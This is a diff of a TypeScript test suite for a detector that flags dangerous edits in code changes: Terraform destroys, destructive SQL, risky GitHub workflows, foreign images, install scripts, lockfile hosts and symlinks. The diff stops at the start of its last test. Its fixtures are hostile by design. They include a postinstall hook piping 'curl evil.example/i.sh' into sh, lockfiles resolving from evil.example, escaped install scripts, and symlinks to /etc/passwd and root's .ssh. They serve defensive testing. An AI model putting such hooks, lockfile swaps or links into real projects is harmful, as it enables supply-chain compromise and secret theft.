@@ -1,9 +1,12 @@
 // What a change does inside a high-blast-radius file (core/dangers.ts): each check finds the
-// destructive edit and names its line, and leaves the ordinary edit beside it alone.
+// destructive edit and names its line, and leaves alone the everyday edits beside it that a
+// review of this session found it flagging (re-indents, moves between files, down migrations,
+// stage names, triggers mentioned in a guard…).
 import { strict as assert } from 'node:assert';
 import { findDangers, readsContent } from '../../src/core/dangers';
 import { liveDiff } from '../../src/core/livediff';
 import type { FileChange } from '../../src/core/model';
+import { overlayChange } from '../../src/vscode/model/overlay';
 
 function edit(path: string, oldText: string | undefined, newText: string | undefined, extra: Partial<FileChange> = {}): FileChange {
   const d = liveDiff(oldText ?? '', newText ?? '');
@@ -21,90 +24,191 @@ function edit(path: string, oldText: string | undefined, newText: string | undef
 }
 
 const lines = (...ls: string[]) => ls.join('\n') + '\n';
-const found = (...changes: FileChange[]) => Object.fromEntries([...findDangers(changes)].map(([p, ds]) => [p, ds.map((d) => `${d.side}:${d.line} ${d.what}`)]));
+const found = (...changes: FileChange[]) =>
+  Object.fromEntries([...findDangers(changes)].map(([p, ds]) => [p, ds.map((d) => `${d.side}:${d.line}${d.severity ? ` (${d.severity})` : ''} ${d.what}`)]));
 
 const DB = lines('resource "aws_db_instance" "primary" {', '  instance_class = "db.r6g.large"', '  lifecycle {', '    prevent_destroy = true', '  }', '}', 'module "vpc" {', '  source = "./vpc"', '}');
+const DESTROYS = (a: string, kind = 'the resource') => `removes ${kind} \`${a}\`: Terraform destroys it (a rename or a move into a module needs a \`moved\` block)`;
 
 describe('dangers in a change', () => {
   describe('Terraform', () => {
-    it('a renamed resource (no moved block) and prevent_destroy taken away; not the attribute edit beside them', () => {
-      const after = DB.replace('"primary"', '"main"').replace('db.r6g.large', 'db.r6g.xlarge').replace('  lifecycle {\n    prevent_destroy = true\n  }\n', '');
-      assert.deepEqual(found(edit('infra/main.tf', DB, after)), {
-        'infra/main.tf': [
-          'old:1 removes the resource `aws_db_instance.primary`: Terraform destroys it (a rename needs a `moved` block)',
-          'old:4 removes `prevent_destroy = true`',
-        ],
-      });
+    it('a renamed resource (no moved block) and prevent_destroy taken from a resource still declared; not the attribute edit beside them', () => {
+      const renamed = DB.replace('"primary"', '"main"').replace('db.r6g.large', 'db.r6g.xlarge');
+      assert.deepEqual(found(edit('infra/main.tf', DB, renamed)), { 'infra/main.tf': [`old:1 ${DESTROYS('aws_db_instance.primary')}`] });
+      const unprotected = DB.replace('  lifecycle {\n    prevent_destroy = true\n  }\n', '');
+      assert.deepEqual(found(edit('infra/main.tf', DB, unprotected)), { 'infra/main.tf': ['old:4 removes `prevent_destroy = true` from `aws_db_instance.primary`'] });
       assert.deepEqual(found(edit('infra/main.tf', DB, DB.replace('db.r6g.large', 'db.r6g.xlarge'))), {});
     });
 
-    it('a moved block, or the block moved to another file of the change, accounts for the address', () => {
+    it('a moved block, or the block moved to another file of the same folder, keeps the address, prevent_destroy and all', () => {
       const renamed = DB.replace('"primary"', '"main"') + lines('moved {', '  from = aws_db_instance.primary', '  to   = aws_db_instance.main', '}');
       assert.deepEqual(found(edit('infra/main.tf', DB, renamed)), {});
-      const without = DB.split('module "vpc"')[0]!;
-      assert.deepEqual(found(edit('infra/main.tf', DB, without), edit('infra/network.tf', undefined, lines('module "vpc" {', '  source = "./vpc"', '}'))), {});
-      assert.deepEqual(found(edit('infra/main.tf', DB, without)), { 'infra/main.tf': ['old:7 removes the module `module.vpc`: Terraform destroys it (a rename needs a `moved` block)'] });
+      const [db, rest] = [DB.split('module "vpc"')[0]!, `module "vpc"${DB.split('module "vpc"')[1]!}`];
+      assert.deepEqual(found(edit('infra/main.tf', DB, rest), edit('infra/db.tf', undefined, db)), {});
+      assert.deepEqual(found(edit('infra/main.tf', DB, db)), { 'infra/main.tf': [`old:7 ${DESTROYS('module.vpc', 'the module')}`] });
     });
 
-    it('a deleted file destroys everything it declared; count switched to for_each re-addresses', () => {
-      assert.deepEqual(found(edit('infra/main.tofu', DB, undefined)), {
-        'infra/main.tofu': ['old:1 removes `aws_db_instance.primary`, `module.vpc`: Terraform destroys them (a rename needs a `moved` block)', 'old:4 removes `prevent_destroy = true`'],
+    it('a move into another folder (another module) without moved blocks destroys; a removed block destroys unless destroy = false', () => {
+      const web = lines('resource "aws_instance" "web" {', '  ami = "a"', '}');
+      assert.deepEqual(found(edit('infra/main.tf', web, lines('module "web" {', '  source = "./modules/web"', '}')), edit('infra/modules/web/main.tf', undefined, web)), {
+        'infra/main.tf': [`old:1 ${DESTROYS('aws_instance.web')}`],
       });
+      const forget = (destroy: string) => lines('removed {', '  from = aws_instance.web', '  lifecycle {', `    destroy = ${destroy}`, '  }', '}');
+      assert.deepEqual(found(edit('infra/main.tf', web, forget('false'))), {});
+      assert.deepEqual(found(edit('infra/main.tf', web, forget('true'))), { 'infra/main.tf': [`old:1 ${DESTROYS('aws_instance.web')}`] });
+    });
+
+    it('a deleted file destroys everything it declared, in one danger; commented-out blocks and heredocs declare nothing', () => {
+      assert.deepEqual(found(edit('infra/main.tofu', DB, undefined)), {
+        'infra/main.tofu': ['old:1 removes `aws_db_instance.primary`, `module.vpc`: Terraform destroys them (a rename or a move into a module needs a `moved` block)'],
+      });
+      const dead = lines('resource "aws_instance" "web" {', '}', '/*', 'resource "aws_instance" "old" {', '}', '*/', 'resource "aws_ssm_document" "d" {', '  content = <<EOT', 'resource "fake" "thing" {', 'EOT', '}');
+      assert.deepEqual(found(edit('infra/main.tf', dead, lines('resource "aws_instance" "web" {', '}', 'resource "aws_ssm_document" "d" {', '  content = "x"', '}'))), {});
+    });
+
+    it('count switched to for_each in one resource re-addresses it; a dynamic block\'s for_each or a re-aligned count does not', () => {
       const counted = lines('resource "aws_instance" "web" {', '  count = 2', '}');
       assert.deepEqual(found(edit('web.tf', counted, counted.replace('count = 2', 'for_each = toset(["a", "b"])'))), {
-        'web.tf': ['new:2 switches `count` to `for_each`: every instance gets a new address, destroyed and created again unless `moved` blocks map them'],
+        'web.tf': ['new:2 switches `aws_instance.web` from `count` to `for_each`: every instance gets a new address, destroyed and created again unless `moved` blocks map them'],
+      });
+      const sg = lines('resource "aws_instance" "web" {', '  count = 2', '}', 'resource "aws_security_group" "web" {', '  name = "web"', '}');
+      const withDynamic = sg.replace('count = 2', 'count = 3').replace('  name = "web"\n', '  name = "web"\n  dynamic "ingress" {\n    for_each = var.ports\n    content {}\n  }\n');
+      assert.deepEqual(found(edit('web.tf', sg, withDynamic)), {});
+      assert.deepEqual(found(edit('web.tf', sg, sg.replace('count = 2', 'count    = 2'))), {});
+    });
+  });
+
+  describe('SQL', () => {
+    it('DROP, TRUNCATE, ALTER TABLE … DROP, DELETE with no WHERE in the whole statement, comments in between read as spaces', () => {
+      const added = lines('ALTER TABLE invoices ADD COLUMN retries int;', 'drop table invoices;', '-- DROP TABLE old_invoices', 'TRUNCATE audit;', 'DELETE FROM sessions;', 'ALTER TABLE users DROP legacy_name;', 'DROP/**/TABLE x;', 'DELETE FROM orders', "WHERE created_at < now() - interval '2 years';");
+      assert.deepEqual(found(edit('db/migrations/002.sql', lines('SELECT 1;'), lines('SELECT 1;') + added)), {
+        'db/migrations/002.sql': [
+          'new:3 runs `DROP TABLE`: data is lost',
+          'new:5 runs `TRUNCATE`: data is lost',
+          'new:6 runs `DELETE FROM` with no `WHERE`: every row is deleted',
+          'new:7 drops a column (`ALTER TABLE … DROP`): its data is lost',
+          'new:8 runs `DROP TABLE`: data is lost',
+        ],
+      });
+    });
+
+    it('not in strings, comments, the TRUNCATE() function, a statement only re-indented, or a down migration or section', () => {
+      assert.deepEqual(found(edit('db/seeds.sql', undefined, lines("INSERT INTO help (text) VALUES ('Do not DROP TABLE in production');", '/* DELETE FROM users; */', 'SELECT TRUNCATE(price, 2) FROM p;'))), {});
+      const reset = lines('BEGIN;', 'TRUNCATE users, orders RESTART IDENTITY CASCADE;', 'COMMIT;');
+      assert.deepEqual(found(edit('test/reset.sql', reset, reset.replace('TRUNCATE', '  TRUNCATE'))), {});
+      for (const p of ['db/migrations/002_x.down.sql', 'db/migration/U3__archive.sql', 'db/003.undo.sql']) assert.deepEqual(found(edit(p, undefined, lines('DROP TABLE invoices;'))), {}, p);
+      assert.deepEqual(found(edit('db/migrations/x_down.sql', undefined, lines('DROP TABLE invoices;'))), { 'db/migrations/x_down.sql': ['new:1 runs `DROP TABLE`: data is lost'] });
+      const goose = lines('-- +goose Up', 'CREATE TABLE users (id int);', '-- +goose Down', 'DROP TABLE users;');
+      const dbmate = lines('-- migrate:up', 'create table orders (id int);', '-- migrate:down', 'drop table orders;');
+      assert.deepEqual(found(edit('db/migrations/1_users.sql', undefined, goose), edit('db/migrations/2_orders.sql', undefined, dbmate)), {});
+    });
+  });
+
+  describe('workflows', () => {
+    it('a pull_request_target workflow that runs the pull request\'s code is an error; the trigger alone a warning; a guard that names it nothing', () => {
+      const base = lines('on: [pull_request]', 'jobs:', '  test:', '    steps:', '      - uses: actions/checkout@v4', '        with:', '          ref: ${{ github.event.pull_request.head.sha }}');
+      assert.deepEqual(found(edit('.github/workflows/ci.yml', base, base.replace('[pull_request]', '[pull_request_target]'))), {
+        '.github/workflows/ci.yml': ["new:7 runs the pull request's own code (its head) in a `pull_request_target` workflow, which has the base repository's token and secrets"],
+      });
+      const labeler = lines('name: labeler', 'on: pull_request_target', 'jobs:', '  label:', '    steps:', '      - uses: actions/labeler@v5');
+      assert.deepEqual(found(edit('.github/workflows/labeler.yml', undefined, labeler)), {
+        '.github/workflows/labeler.yml': ["new:2 (warning) runs on `pull_request_target`, with the base repository's token and secrets, for pull requests from forks"],
+      });
+      const guard = lines('on: [push]', 'jobs:', '  deploy:', "    if: github.event_name != 'pull_request_target'");
+      assert.deepEqual(found(edit('.github/workflows/d.yml', lines('on: [push]', 'jobs: {}'), guard)), {});
+      // An existing trigger written as a block list is no new trigger.
+      assert.deepEqual(found(edit('.github/workflows/labeler.yml', labeler, labeler.replace('on: pull_request_target', 'on:\n  pull_request_target:\n  issues:'))), {});
+    });
+
+    it('escaped or quoted, the trigger and write-all are still read', () => {
+      const hidden = lines('on: ["pull_request_\\u0074arget"]', 'permissions: "write-all"', 'jobs:', '  x:', '    steps:', '      - uses: actions/checkout@v4', '        with: { ref: "${{ github.head_ref }}" }');
+      assert.deepEqual(found(edit('.github/workflows/x.yml', lines('on: [push]'), hidden)), {
+        '.github/workflows/x.yml': ["new:7 runs the pull request's own code (its head) in a `pull_request_target` workflow, which has the base repository's token and secrets", 'new:2 grants `permissions: write-all`'],
+      });
+    });
+
+    it('a workflow_run workflow that takes another run\'s artifact', () => {
+      const after = lines('on:', '  workflow_run:', '    workflows: [ci]', 'jobs:', '  x:', '    steps:', '      - uses: actions/download-artifact@v4', '      - run: bash ./artifact/script.sh');
+      assert.deepEqual(found(edit('.github/workflows/after.yml', undefined, after)), {
+        '.github/workflows/after.yml': ["new:7 takes another run's artifact or head in a `workflow_run` workflow, which has the base repository's token and secrets"],
       });
     });
   });
 
-  it('SQL: DROP TABLE, TRUNCATE and DELETE without WHERE in added lines; not in comments, a WHERE clause or a down migration', () => {
-    const added = lines('ALTER TABLE invoices ADD COLUMN retries int;', 'drop table invoices;', '-- DROP TABLE old_invoices', 'TRUNCATE audit;', 'DELETE FROM sessions;', 'DELETE FROM sessions WHERE expired;');
-    assert.deepEqual(found(edit('db/migrations/002.sql', lines('SELECT 1;'), lines('SELECT 1;') + added)), {
-      'db/migrations/002.sql': ['new:3 runs `DROP TABLE`: data is lost', 'new:5 runs `TRUNCATE`: data is lost', 'new:6 runs `DELETE FROM` with no `WHERE`: every row is deleted'],
-    });
-    assert.deepEqual(found(edit('db/migrations/002_x.down.sql', undefined, lines('DROP TABLE invoices;'))), {});
-  });
-
-  it('a workflow opened to forks with write access', () => {
-    const before = lines('on: [pull_request]', 'jobs: {}');
-    const after = lines('on: [pull_request_target] # was pull_request', 'permissions: write-all', 'jobs: {}');
-    assert.deepEqual(found(edit('.github/workflows/ci.yml', before, after)), {
-      '.github/workflows/ci.yml': ['new:1 runs on `pull_request_target`: with write access and secrets, for pull requests from forks', 'new:2 grants `permissions: write-all`'],
-    });
-  });
-
-  it('a Dockerfile whose base image comes from elsewhere; not a new tag of the same image', () => {
+  it('a Dockerfile whose base image comes from elsewhere; a new stage\'s image a warning; not a tag, a stage name, scratch or Docker Hub\'s long name', () => {
     const before = lines('FROM node:20-alpine AS build', 'RUN npm ci');
     assert.deepEqual(found(edit('Dockerfile', before, before.replace('node:20-alpine', 'node:22-alpine'))), {});
+    assert.deepEqual(found(edit('Dockerfile', before, before.replace('node:20-alpine', 'docker.io/library/node:20-alpine'))), {});
     assert.deepEqual(found(edit('svc/Dockerfile.prod', before, before.replace('node:20-alpine', 'ghcr.io/someone/node:latest'))), {
       'svc/Dockerfile.prod': ['new:1 takes its base image from `ghcr.io/someone/node` instead of `node`'],
     });
+    assert.deepEqual(found(edit('Dockerfile', before, before + lines('FROM build AS test', 'RUN npm test', 'FROM scratch', 'COPY --from=build /app /app'))), {});
+    assert.deepEqual(found(edit('Dockerfile', before, lines('FROM ghcr.io/other/toolbox:1 AS tools') + before)), {
+      Dockerfile: ['new:1 (warning) pulls a new image into the build: `ghcr.io/other/toolbox`'],
+    });
   });
 
-  it('Kubernetes objects whose deletion takes data with them, in any YAML file; not one still declared', () => {
+  it('Kubernetes: a Namespace or volume claim removed and not declared again anywhere in the change, by kind and name', () => {
     const ns = lines('apiVersion: v1', 'kind: Namespace', 'metadata:', '  name: billing');
     const pvc = lines('apiVersion: v1', 'kind: PersistentVolumeClaim', 'metadata:', '  name: data');
     assert.deepEqual(found(edit('deploy/namespace.yaml', ns, undefined), edit('deploy/pvc.yaml', pvc, pvc.replace('name: data', 'name: data2'))), {
-      'deploy/namespace.yaml': ['old:2 removes a Namespace: deleting a Namespace deletes everything in it'],
+      'deploy/namespace.yaml': ['old:2 removes the Namespace `billing`: deleting a Namespace deletes everything in it'],
+      'deploy/pvc.yaml': ['old:2 removes the PersistentVolumeClaim `data`: its volume, and the data on it, can be deleted with it'],
     });
+    // A manifest split into files: the same objects, declared again.
+    assert.deepEqual(found(edit('deploy/all.yaml', `${ns}---\n${pvc}`, undefined), edit('deploy/ns.yaml', undefined, ns), edit('deploy/storage.yaml', undefined, pvc)), {});
     assert.deepEqual(found(edit('deploy/app.yaml', lines('kind: Deployment'), undefined)), {});
     assert.deepEqual(found(edit('deploy/odd.yaml', lines('kind: constructor', 'kind: __proto__', 'kind: toString'), undefined)), {});
   });
 
-  it('package.json install scripts, and lockfile packages from a host it did not name before', () => {
-    const pkg = lines('{', '  "scripts": {', '    "test": "mocha"', '  }', '}');
-    const withHook = pkg.replace('"test": "mocha"', '"test": "mocha",\n    "postinstall": "curl -s https://evil.example/i.sh | sh"');
-    assert.deepEqual(found(edit('package.json', pkg, withHook), edit('web/package.json', pkg, pkg.replace('mocha', 'vitest'))), {
-      'package.json': ['new:4 sets the `postinstall` script, which the package manager runs on install'],
+  it('package.json: an install script set or changed, also escaped; not one only moved or re-indented; pack scripts said as such', () => {
+    const pkg = lines('{', '    "scripts": {', '        "build": "tsc",', '        "postinstall": "patch-package",', '        "test": "vitest"', '    }', '}');
+    const reindented = lines('{', '  "scripts": {', '    "test": "vitest",', '    "postinstall": "patch-package",', '    "lint": "eslint .",', '    "build": "tsc"', '  }', '}');
+    assert.deepEqual(found(edit('package.json', pkg, reindented)), {});
+    const evil = pkg.replace('"test": "vitest"', '"test": "vitest",\n        "post\\u0069nstall2": "x",\n        "prepack": "node pack.js"').replace('"postinstall": "patch-package"', '"post\\u0069nstall": "node evil.js"');
+    assert.deepEqual(found(edit('package.json', pkg, evil)), {
+      'package.json': ['new:4 sets the `postinstall` script, which the package manager runs on every install of the project', 'new:7 sets the `prepack` script, which the package manager runs when the package is packed or published'],
     });
-    const lock = lines('{', '  "node_modules/a": {', '    "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"', '  }', '}');
-    const swapped = lock.replace('}\n}', '},\n  "node_modules/b": {\n    "resolved": "https://evil.example/b.tgz"\n  },\n  "node_modules/c": {\n    "resolved": "https://registry.npmjs.org/c/-/c-1.0.0.tgz"\n  }\n}');
-    assert.deepEqual(found(edit('package-lock.json', lock, swapped)), {
-      'package-lock.json': ['new:6 resolves a package from `evil.example`, a host the lockfile did not name before'],
-    });
+  });
+
+  it('lockfiles: a package from a host the old lockfile did not resolve from (a funding link is no registry); a new lockfile beyond the public registries', () => {
+    const lock = lines('{', '  "node_modules/a": {', '    "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",', '    "funding": { "url": "https://evil.example/sponsor" }', '  }', '}');
+    const swapped = lock.replace('}\n}', '},\n  "node_modules/b": {\n    "resolved": "https:\\/\\/evil.example/b.tgz"\n  }\n}');
+    assert.deepEqual(found(edit('package-lock.json', lock, swapped)), { 'package-lock.json': ['new:7 resolves a package from `evil.example`, a host the lockfile did not resolve from before'] });
+    assert.deepEqual(found(edit('web/package-lock.json', undefined, lock)), {});
+    assert.deepEqual(found(edit('web/package-lock.json', undefined, swapped)), { 'web/package-lock.json': ['new:7 resolves a package from `evil.example`, no public registry'] });
     assert.deepEqual(found(edit('yarn.lock', lines('a@1:', '  resolved "https://registry.yarnpkg.com/a/-/a-1.tgz"'), lines('a@1:', '  resolved "https://evil.example/a-1.tgz"'))), {
-      'yarn.lock': ['new:2 resolves a package from `evil.example`, a host the lockfile did not name before'],
+      'yarn.lock': ['new:2 resolves a package from `evil.example`, a host the lockfile did not resolve from before'],
     });
+    assert.deepEqual(found(edit('web/yarn.lock', lines('__metadata:'), lines('__metadata:', 'left-pad@npm:1:', '  resolution: "left-pad@https://evil.example/left-pad-1.3.0.tgz"'))), {
+      'web/yarn.lock': ['new:3 resolves a package from `evil.example`, a host the lockfile did not resolve from before'],
+    });
+    assert.deepEqual(found(edit('pnpm-lock.yaml', lines('lockfileVersion: 9'), lines('lockfileVersion: 9', '  resolution: {tarball: https://evil.example/left-pad-1.3.0.tgz}'))), {
+      'pnpm-lock.yaml': ['new:2 resolves a package from `evil.example`, a host the lockfile did not resolve from before'],
+    });
+  });
+
+  it('a symbolic link out of the repository or into .git; not one that stays inside', () => {
+    const linkTo = (path: string, target: string, status: FileChange['status'] = 'added') => ({ ...edit(path, undefined, target), status, newMode: '120000', hunks: [] });
+    assert.deepEqual(
+      found(linkTo('src/config.json', '/etc/passwd'), linkTo('src/keys', '../../root/.ssh'), linkTo('deploy/hooks', '../.git/hooks', 'modified'), linkTo('src/b.ts', 'a.ts'), linkTo('src/deep/c.ts', '../../lib/c.ts'), linkTo('src/main.tf', 'resource "x" "y" {')),
+      {
+        'src/config.json': ['new:0 is a symbolic link to `/etc/passwd`, outside the repository: whatever reads or copies it (a build, an upload) reaches that file'],
+        'src/keys': ['new:0 is a symbolic link to `../../root/.ssh`, outside the repository: whatever reads or copies it (a build, an upload) reaches that file'],
+        'deploy/hooks': ["new:0 is a symbolic link to `../.git/hooks`, into the repository's `.git` folder (hooks, config)"],
+      },
+    );
+  });
+
+  it('an unsaved buffer carries the texts, so the editor names the same dangers while typing; a symbolic link\'s buffer (its target\'s text) never', () => {
+    const after = DB.replace('"primary"', '"main"');
+    const live = overlayChange({ path: 'infra/main.tf', baseText: DB, text: after }).change!;
+    assert.deepEqual(found(live), found(edit('infra/main.tf', DB, after)));
+    assert.equal(found(live)['infra/main.tf']!.length, 1);
+    const typedNew = overlayChange({ path: 'db/migrations/9.sql', baseText: null, text: lines('DROP TABLE users;') }).change!;
+    assert.deepEqual(found(typedNew), { 'db/migrations/9.sql': ['new:1 runs `DROP TABLE`: data is lost'] });
+    const linked = overlayChange({ path: 'src/alias.ts', baseText: 'a\n', text: '/* the target file */\nexport const x = 1;\n', disk: { ...edit('src/alias.ts', 'a', 'b'), newMode: '120000' } }).change!;
+    assert.deepEqual([linked.newText, found(linked)], [undefined, {}]);
   });
 
   it('reads no other file, and nothing without its texts', () => {
